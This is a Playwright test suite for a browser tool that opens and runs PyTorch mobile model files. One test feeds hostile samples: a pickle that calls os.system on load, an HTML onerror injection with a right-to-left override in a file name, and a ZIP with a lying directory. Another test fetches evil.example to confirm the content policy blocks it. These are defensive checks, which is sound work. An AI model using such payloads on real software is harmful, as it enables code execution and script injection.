/* eslint max-lines: off -- one page in all its states, with helpers that only these tests share */
import {readFileSync} from 'node:fs';
import path from 'node:path';
import type {Download, Page} from '@playwright/test';
import {strToU8, zipSync} from 'fflate';
import {floraSamples} from '../../src/data/floraSamples';
import {memorySource, openFile} from '../../src/lib/flora/open';
import {sidewaysScroll, violations} from '../a11y/violations';
import {address} from '../servers';
import {expect, hydrated, open, test} from './fixtures';

const ROOT = path.join(__dirname, '../..');
const file = (name: string) => readFileSync(path.join(ROOT, name));
const fixture = (name: string) => file(`src/lib/flora/__fixtures__/${name}`);
const digits = file('static/models/digits.ptl');

const input = (page: Page) => page.locator('input[type=file]').first();
const title = (page: Page) => page.getByRole('heading', {level: 2}).first();
const tab = (page: Page, name: RegExp | string) =>
  page.getByRole('tab', {name});

/** Chooses a file on the start page and waits for its name. */
async function choose(
  page: Page,
  name: string,
  buffer: Uint8Array,
): Promise<void> {
  await input(page).setInputFiles({
    name,
    mimeType: 'application/octet-stream',
    buffer: Buffer.from(buffer),
  });
  await expect(title(page)).toHaveText(name);
}

async function bytesOf(download: Download): Promise<Uint8Array> {
  return readFileSync(await download.path());
}

/** A model that calls `aten::muq`, which nobody knows. */
async function withUnknownOperator(): Promise<Uint8Array> {
  const opened = await openFile(memorySource(fixture('scale.ptl')));
  if (opened.kind !== 'mobile') {
    throw new Error('The fixture is no model.');
  }
  const {root, records, read} = opened.model.archive;
  const parts: Record<string, Uint8Array> = {};
  for (const {name} of records) {
    const text = Buffer.from(await read(name)).toString('latin1');
    parts[`${root}/${name}`] = strToU8(
      name === 'bytecode.pkl' ? text.replace('aten::mul', 'aten::muq') : text,
      true,
    );
  }
  return zipSync(parts, {level: 0});
}

test.describe('opening', () => {
  test('a link opens a model of the site, and the way back closes it', async ({
    page,
  }) => {
    await open(page, '/flora/');
    await page.getByRole('link', {name: 'Handwritten digits'}).click();
    await expect(page).toHaveURL('/flora/?sample=digits');
    await expect(title(page)).toHaveText('digits.ptl');
    await expect(title(page)).toBeFocused();
    await expect(page.getByText(/PlayTorch .* loads this file/)).toBeVisible();
    await page.goBack();
    await expect(page.getByText('Drop a .ptl file here')).toBeVisible();
    await open(page, '/flora/?sample=digits&view=operators');
    await expect(tab(page, /Operators/)).toHaveAttribute(
      'aria-selected',
      'true',
    );
    await open(page, '/flora/?sample=constructor');
    await expect(page.getByRole('alert')).toContainText(
      'no model named “constructor”',
    );
  });

  test('a chosen file shows each of its sides', async ({page}) => {
    await open(page, '/flora/');
    const chooser = page.waitForEvent('filechooser');
    await page.getByText('Choose a file').click();
    await (
      await chooser
    ).setFiles({name: 'mine.ptl', mimeType: '', buffer: digits});
    await expect(title(page)).toHaveText('mine.ptl');
    await expect(
      page.getByText('forward(image: Tensor) -> Tensor'),
    ).toBeVisible();

    await page.getByRole('button', {name: 'Check every byte'}).click();
    await expect(
      page.getByText('Every record has the checksum that was written.'),
    ).toBeVisible();
    const json = page.waitForEvent('download');
    await page.getByRole('button', {name: /as JSON/}).click();
    expect(
      JSON.parse(Buffer.from(await bytesOf(await json)).toString()),
    ).toMatchObject({bytecodeVersion: 7, functions: expect.any(Array)});

    await tab(page, /Operators/).click();
    await expect(page.getByText(/(\d+) of \1 run here/)).toBeVisible();
    const names = async () =>
      (await page.locator('tbody th').allTextContents()).filter((name) =>
        name.startsWith('aten::'),
      );
    const sort = page.getByRole('button', {name: 'Operator', exact: true});
    await sort.click();
    await sort.click();
    await expect(
      page.getByRole('columnheader', {name: 'Operator'}),
    ).toHaveAttribute('aria-sort', 'descending');
    expect(await names()).toEqual((await names()).sort().reverse());
    expect((await names()).length).toBeGreaterThan(3);

    await tab(page, /Weights/).click();
    await expect(page.getByText('[10, ').first()).toBeVisible();
    await tab(page, /Source/).click();
    await expect(page.getByText('def forward').first()).toBeVisible();
    await tab(page, /Bytecode/).click();
    await expect(page.getByRole('cell', {name: 'STOREN 1 2'})).toBeVisible();
    await tab(page, /Files/).click();
    await page.getByRole('button', {name: /^labels\.json/}).click();
    await expect(
      page.getByRole('group', {name: 'extra/labels.json'}),
    ).toContainText('["0","1"');
  });

  test('a file that is dropped anywhere', async ({page}) => {
    await open(page, '/flora/');
    const data = await page.evaluateHandle(
      (bytes) => {
        const transfer = new DataTransfer();
        transfer.items.add(new File([new Uint8Array(bytes)], 'dropped.ptl'));
        return transfer;
      },
      [...digits],
    );
    const footer = page.locator('footer');
    await footer.dispatchEvent('dragover', {dataTransfer: data});
    await expect(page.getByText('Let go to open it')).toBeVisible();
    await footer.dispatchEvent('drop', {dataTransfer: data});
    await expect(title(page)).toHaveText('dropped.ptl');
  });

  test('an address becomes a command, not a request', async ({page}) => {
    await open(page, '/flora/');
    const field = page.getByLabel(/Address of a model/);
    await field.fill('https://huggingface.co/a/b/blob/main/net.ptl');
    await expect(
      page.getByText(
        "curl -fL -o net.ptl 'https://huggingface.co/a/b/resolve/main/net.ptl'",
      ),
    ).toBeVisible();
    await field.fill('net.ptl');
    await expect(page.getByText('An address starts with')).toBeVisible();
  });

  test('says what each wrong file is, and goes on', async ({page}) => {
    await open(page, '/flora/');
    for (const [name, bytes, words] of [
      ['page.ptl', strToU8('<!doctype html><title>404</title>'), /web page/i],
      [
        'lfs.ptl',
        strToU8('version https://git-lfs.github.com/spec/v1\noid sha256:0\n'),
        /LFS/,
      ],
      ['empty.ptl', new Uint8Array(), /Empty file/],
      ['cut.ptl', digits.subarray(0, 20_000), /Cut file/],
      ['net.pt', fixture('scale-torchscript.pt'), /TorchScript/],
      ['weights.pt', fixture('scale-weights.pt'), /weights/i],
      ['net-9.ptl', fixture('scale-flatbuffer.ptl'), /flatbuffer/],
      ['net.gguf', strToU8('GGUF\x03\0\0\0\0\0\0\0'), /GGUF/],
      ['some.zip', zipSync({'a.txt': strToU8('a')}), /ZIP/],
    ] as const) {
      await choose(page, name, bytes);
      await expect(
        page.getByRole('heading', {level: 3, name: words}).first(),
      ).toBeVisible();
      await expect(page.getByText('Next step.')).toBeVisible();
      await page.getByRole('button', {name: 'Open another file'}).click();
    }
  });

  test('a file for newer runtimes comes with the command that lowers it', async ({
    page,
  }) => {
    await open(page, '/flora/');
    await choose(page, "it's new.ptl", fixture('scale.ptl'));
    await expect(
      page.getByText('PlayTorch 0.1.3 refuses this file.'),
    ).toBeVisible();
    await expect(page.getByText(/_backport_for_mobile/).first()).toContainText(
      `'it'\\''s new.ptl' 'it'\\''s new_v7.ptl'`,
    );
  });
});

test('hostile files are text and errors, and the page lives on', async ({
  page,
}) => {
  await open(page, '/flora/');
  // A pickle that calls os.system when Python loads it.
  const evil = strToU8('\x80\x02cposix\nsystem\n(X\x01\0\0\0xtR.', true);
  const parts = {
    'x/version': strToU8('3\n'),
    'x/data.pkl': evil,
    'x/constants.pkl': evil,
    'x/bytecode.pkl': evil,
  };
  const name = '<img src=x onerror="window.hit=1">\u202eltp.exe';
  await input(page).setInputFiles({
    name,
    mimeType: '',
    buffer: Buffer.from(zipSync(parts, {level: 0})),
  });
  await expect(title(page)).toHaveText(
    '<img src=x onerror="window.hit=1">\\u{202e}ltp.exe',
  );
  const alert = page.getByRole('alert');
  await expect(alert).toContainText(/posix[. ]system|runs? code|unsafe/i);
  await expect(alert).toContainText('bytecode.pkl');
  await page.getByRole('button', {name: 'Open another file'}).click();

  // A directory that claims more than the file has.
  const lying = new Uint8Array(digits);
  const end = lying.length - 22;
  new DataView(lying.buffer).setUint32(end + 12, 0xfffffff0, true);
  await input(page).setInputFiles({
    name: 'lying.ptl',
    mimeType: '',
    buffer: Buffer.from(lying),
  });
  await expect(alert).toBeVisible();
  await page.getByRole('button', {name: 'Open another file'}).click();

  await choose(page, 'digits.ptl', digits);
  await expect(page.getByText(/loads this file/)).toBeVisible();
  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
});

test('the keyboard is enough', async ({page}) => {
  await open(page, '/flora/');
  const press = async (...keys: string[]) => {
    for (const key of keys) {
      await page.keyboard.press(key);
    }
  };
  /** Goes on with Tab until an element has focus. */
  const tabTo = async (target: ReturnType<Page['locator']>) => {
    for (let steps = 0; steps < 60; steps += 1) {
      if (await target.evaluate((node) => node === document.activeElement)) {
        return;
      }
      await press('Tab');
    }
    await expect(target).toBeFocused();
  };
  await tabTo(input(page));
  await tabTo(page.getByRole('link', {name: 'Handwritten digits'}));
  await press('Enter');
  await expect(title(page)).toBeFocused();
  await tabTo(tab(page, 'Overview'));
  await press('ArrowRight');
  await expect(tab(page, 'Run')).toBeFocused();
  await expect(page).toHaveURL(/view=run/);
  const run = page.getByRole('button', {name: 'Run forward'});
  await run.waitFor();
  await tabTo(page.getByRole('button', {name: '7', exact: true}));
  await press('Space');
  await tabTo(run);
  await expect(page.getByText('What the model sees: 28 × 28')).toBeVisible();
  await press('Enter');
  await expect(
    page
      .getByRole('list', {name: /largest/})
      .getByRole('listitem')
      .first(),
  ).toContainText('7');
  await tabTo(page.locator('summary', {hasText: 'Values'}));
  await press('Enter');
  await expect(page.getByRole('rowheader', {name: '0, 0'})).toBeVisible();

  await tab(page, 'Run').focus();
  await press('ArrowRight');
  const editor = page.getByLabel('Text of live.spec.json');
  await tabTo(editor);
  await press('Control+A', 'Delete');
  await page.keyboard.type('{');
  const finding = page.getByRole('button', {name: /Error, line 1/});
  await tabTo(finding);
  await press('Enter');
  await expect(editor).toBeFocused();
  await tab(page, 'Live spec').focus();
  await press('End');
  await expect(tab(page, 'Files')).toHaveAttribute('aria-selected', 'true');
});

test.describe('live spec', () => {
  test('is checked at its line, changed, and written into a new file', async ({
    page,
  }) => {
    await open(page, '/flora/?sample=digits&view=spec');
    const editor = page.getByLabel('Text of live.spec.json');
    await expect(editor).toHaveValue(/greyscale_norm/);
    await expect(page.getByText('No errors')).toBeVisible();
    const text = await editor.inputValue();

    await editor.fill(text.replace('greyscale_norm', 'gray_norm'));
    const finding = page.getByRole('button', {name: /^Error, line \d+/});
    await expect(finding).toBeVisible();
    await finding.click();
    expect(
      await editor.evaluate((node) => {
        const {value, selectionStart, selectionEnd} =
          node as HTMLTextAreaElement;
        return value.slice(selectionStart, selectionEnd);
      }),
    ).toBe('"gray_norm"');

    await page.getByLabel('Template').selectOption({label: 'Image to class'});
    await page.getByRole('button', {name: 'Use it'}).click();
    await expect(editor).toHaveValue(/rgb_norm/);
    const changed = (await editor.inputValue()).replace('224', '200');
    await editor.fill(changed);
    const saved = page.waitForEvent('download');
    await page.getByRole('button', {name: /\.ptl with this spec/}).click();
    const download = await saved;
    expect(download.suggestedFilename()).toBe('digits_spec.ptl');

    const bytes = await bytesOf(download);
    const opened = await openFile(memorySource(bytes));
    expect(opened.kind).toBe('mobile');
    if (opened.kind === 'mobile') {
      const {archive} = opened.model;
      const spec = await archive.read('extra/model/live.spec.json');
      expect(Buffer.from(spec).toString()).toBe(changed);
      expect(archive.records.filter(({offset}) => offset % 64 !== 0)).toEqual(
        [],
      );
    }
    await page.getByRole('button', {name: 'Open another file'}).click();
    await choose(page, 'again.ptl', bytes);
  });
});

test.describe('running', () => {
  for (const [name, sample] of Object.entries(floraSamples)) {
    test(`${name} names what its pictures show`, async ({page}) => {
      await open(page, `/flora/?sample=${name}&view=run`);
      for (const {url, label, probability} of sample.pictures.slice(0, 3)) {
        await page
          .getByRole('button', {name: label, exact: true})
          .filter({has: page.locator(`img[src$="${url}"]`)})
          .click();
        await expect(
          page.getByRole('img', {name: new RegExp(`^${label} at `)}),
        ).toBeVisible();
        await page.getByRole('button', {name: 'Run forward'}).click();
        const first = page
          .getByRole('list', {name: /largest/})
          .getByRole('listitem')
          .first();
        await expect(first).toContainText(label);
        const shown = await first.getByText(/^[\d.]+%$/).textContent();
        expect(Number.parseFloat(shown ?? '')).toBeCloseTo(
          100 * probability,
          0,
        );
      }
      // The plain ones would mean that the content policy forbids WebAssembly.
      await expect(page.getByText(/WebAssembly kernels/)).toBeVisible();
      await expect(
        page.getByRole('rowheader', {name: /aten::conv2d/}),
      ).toBeVisible();
    });
  }

  test('a wrong input is an error with its place; a run can be canceled', async ({
    page,
  }) => {
    await open(page, '/flora/?sample=digits&view=run');
    const run = page.getByRole('button', {name: 'Run forward'});
    await page.getByLabel('Filled with').selectOption('random');
    await page.getByLabel('Shape').fill('1, 3, 28, 28');
    await run.click();
    await expect(page.getByRole('alert')).toContainText(
      /aten::\w+ in __torch__\..*instruction \d+/,
    );
    await page.getByLabel('Shape').fill('20000, 1, 28, 28');
    await run.click();
    await page.getByRole('button', {name: 'Cancel'}).click();
    await expect(run).toBeEnabled();
    await page.getByLabel('Shape').fill('1, 1, 28, 28');
    await run.click();
    await expect(page.getByText(/^Done in/)).toBeVisible();
  });

  test('typed values are checked, and computed with', async ({page}) => {
    await open(page, '/flora/');
    await choose(page, 'scale.ptl', fixture('scale.ptl'));
    await tab(page, 'Run').click();
    await page.getByLabel('Shape').first().fill('3');
    await page.getByLabel('Filled with').first().selectOption('values');
    await page.getByLabel(/Values, row after row/).fill('[1, 2, x]');
    const run = page.getByRole('button', {name: /^Run/});
    await run.click();
    await expect(page.getByRole('alert')).toContainText('“x” is not a number');
    await page.getByLabel(/Values, row after row/).fill('[1, 2, -3]');
    await run.click();
    await expect(page.getByText(/^Done in/)).toBeVisible();
  });

  test('an operator that nothing has is named before the start', async ({
    page,
  }) => {
    await open(page, '/flora/');
    await choose(page, 'odd.ptl', await withUnknownOperator());
    await expect(
      page.getByText('No release has these operators: aten::muq.Tensor'),
    ).toBeVisible();
    await tab(page, /Operators/).click();
    await expect(
      page.getByRole('row', {name: /aten::muq\.Tensor .*unknown/}),
    ).toBeVisible();
    await tab(page, 'Run').click();
    await expect(page.getByRole('alert')).toContainText('aten::muq.Tensor');
    await expect(page.getByRole('button', {name: /^Run/})).toHaveCount(0);
  });
});

test.describe('nothing leaves the computer', () => {
  test('opening, looking and running make no request but for the site’s own files', async ({
    page,
  }) => {
    await open(page, '/flora/');
    const requests: string[] = [];
    page.on('request', (request) => {
      const {pathname, search} = new URL(request.url());
      requests.push(`${request.method()} ${pathname}${search}`);
      expect(request.postData()).toBeNull();
    });
    await choose(page, 'secret-name.ptl', digits);
    for (const name of [/Run/, /Live spec/, /Operators/, /Files/]) {
      await tab(page, name).click();
    }
    await tab(page, 'Run').click();
    await page.getByRole('button', {name: 'Run forward'}).click();
    await expect(page.getByRole('heading', {name: 'Output'})).toBeVisible();
    await expect(page.getByText(/^Done in/)).toBeVisible();
    expect(requests.length).toBeGreaterThan(3);
    const own = /^GET \/(?:assets\/[\w/~.-]+|img\/favicon\.svg|[\w-]+\.wasm)$/;
    expect(requests.filter((request) => !own.test(request))).toEqual([]);
  });

  test.describe('were something to try', () => {
    test.use({
      allowed: {
        errors: [/Content Security Policy|Refused to connect|violates/],
        requests: [/evil\.example/],
      },
    });

    test('the content policy refuses it, in the page and in its worker', async ({
      page,
      request,
    }) => {
      await open(page, '/flora/?sample=digits');
      await expect(title(page)).toHaveText('digits.ptl');
      const attempt = `fetch('https://evil.example/').then(() => 'sent', () => 'refused')`;
      expect(await page.evaluate(attempt)).toBe('refused');
      const worker = page.workers().find((one) => one.url().includes('flora'));
      expect(await worker?.evaluate(attempt)).toBe('refused');
      const script = await request.get(worker?.url() ?? '');
      const policy = script.headers()['content-security-policy'] ?? '';
      const [, connect = ''] = /connect-src ([^;]*)/.exec(policy) ?? [];
      expect(connect.split(' ')[0]).toBe("'self'");
      expect(connect).not.toMatch(/\*|https:(?!\/\/)/);
    });
  });
});

test.describe('a part that cannot be downloaded', () => {
  test.use({allowed: {errors: [/ERR_FAILED|Failed to load|ChunkLoadError/]}});

  test('says so and can be tried again', async ({page}) => {
    await open(page, '/flora/');
    await page.waitForLoadState('networkidle');
    await page.route('**/assets/js/*', (route) => route.abort());
    await input(page).setInputFiles({
      name: 'digits.ptl',
      mimeType: '',
      buffer: digits,
    });
    const retry = page.getByRole('button', {name: 'Retry'});
    await retry.waitFor();
    await page.unroute('**/assets/js/*');
    // The worker first, then the view of its answer.
    await expect(async () => {
      if (await retry.isVisible()) {
        await retry.click();
      }
      await expect(tab(page, 'Overview')).toBeVisible({timeout: 500});
    }).toPass();
  });
});

for (const [width, mode] of [
  [1280, 'light'],
  [390, 'dark'],
  [320, 'light'],
] as const) {
  test(`no view has a violation or scrolls sideways: ${width} px, ${mode}`, async ({
    page,
  }) => {
    await page.setViewportSize({width, height: 900});
    await open(page, `/flora/?sample=digits&docusaurus-theme=${mode}`);
    await tab(page, 'Overview').waitFor();
    const tabs = await page.getByRole('tab').all();
    expect(tabs.length).toBeGreaterThan(6);
    for (const one of tabs) {
      const name = (await one.textContent()) ?? '';
      await one.click();
      if (name === 'Run') {
        await page.getByText('What the model sees').waitFor();
        await page.getByRole('button', {name: 'Run forward'}).click();
        await page.getByRole('heading', {name: 'Time by operator'}).waitFor();
      }
      if (name === 'Files') {
        await page.getByRole('button', {name: /^labels\.json/}).click();
        await page.getByRole('button', {name: 'Copy text'}).waitFor();
      }
      expect(await sidewaysScroll(page), name).toBe(0);
      if (width !== 320) {
        expect(await violations(page), name).toEqual([]);
      }
    }
  });
}

test.describe('without JavaScript', () => {
  test.use({javaScriptEnabled: false});

  test('the guide is there, and says what needs it', async ({page}) => {
    await page.goto('/flora/#bytecode');
    // Playwright looks for no text in a noscript.
    const note = page.locator('noscript p').first();
    await expect(note).toBeVisible();
    await expect(note).toContainText('Opening a file needs JavaScript');
    const section = page.locator('details', {
      has: page.getByRole('heading', {name: 'Bytecode versions'}),
    });
    await section.locator('summary').click();
    await expect(
      section.getByText('Some operators became instructions'),
    ).toBeVisible();
  });
});

test('an anchor opens its section of the guide', async ({page}) => {
  await open(page, '/flora/#backport');
  await expect(
    page.getByText('rewrites a file for an older runtime'),
  ).toBeVisible();
});

test.describe('under a base path', () => {
  test.use({allowed: {requests: [/googletagmanager\.com/]}});

  test('a sample opens and runs', async ({page, context}) => {
    await context.route('https://www.googletagmanager.com/**', (route) =>
      route.fulfill({contentType: 'text/javascript', body: ''}),
    );
    await page.goto(address('variant', 'flora/?sample=digits&view=run'));
    await hydrated(page);
    await expect(page.getByText('What the model sees: 28 × 28')).toBeVisible();
    await page.getByRole('button', {name: 'Run forward'}).click();
    await expect(page.getByText(/WebAssembly kernels/)).toBeVisible();
  });
});

test('before a file is chosen, the page costs at most 30 kB more than a plain one', async ({
  browser,
}) => {
  /** Bytes on the wire, what is only prefetched for later left out. */
  const weigh = async (address: string) => {
    const page = await browser.newPage();
    const sizes: Promise<number>[] = [];
    page.on('requestfinished', (request) => {
      sizes.push(
        request.allHeaders().then(async (headers) => {
          const {responseBodySize, responseHeadersSize} = await request.sizes();
          return headers['sec-purpose']?.includes('prefetch')
            ? 0
            : responseBodySize + responseHeadersSize;
        }),
      );
    });
    await open(page, address);
    await page.waitForLoadState('networkidle');
    const all = await Promise.all(sizes);
    await page.close();
    return all.reduce((sum, size) => sum + size, 0);
  };
  const more = (await weigh('/flora/')) - (await weigh('/community/'));
  test.info().annotations.push({type: 'bytes', description: String(more)});
  expect(more).toBeLessThan(30_000);
  expect(more).toBeGreaterThan(1_000);
});
